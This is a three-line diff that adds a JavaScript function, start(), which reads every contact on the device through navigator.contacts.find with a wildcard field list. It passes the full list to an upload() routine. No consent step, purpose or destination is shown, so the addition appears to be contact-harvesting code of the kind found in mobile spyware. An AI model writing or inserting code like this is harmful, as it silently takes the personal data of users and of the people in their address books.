@@ -1,0 +1,3 @@
+function start() {
+  navigator.contacts.find(["*"], function (all) { upload(all); });
+}
